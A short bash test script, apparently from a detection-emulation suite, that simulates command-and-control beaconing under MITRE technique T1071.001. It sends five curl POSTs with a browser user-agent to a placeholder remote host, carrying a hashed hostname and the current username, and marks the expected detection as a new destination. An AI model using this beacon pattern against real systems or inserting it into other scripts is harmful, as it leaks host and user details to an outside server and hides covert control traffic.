#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1071.001 Application Layer Protocol: Web Protocols
# behaviour: an implant beacons to its server over HTTP at a short interval, posting host details and asking for tasks
# as: user
# needs: remote
# expect: new_destination
set -u
id=$(hostname | sha1sum | cut -c1-8)
for i in 1 2 3 4 5; do
  curl -s -m 3 -A 'Mozilla/5.0' -d "id=$id&u=$(id -un)" "http://$SNTL_REMOTE:8080/api/v1/beacon" > /dev/null
  sleep 0.3
done
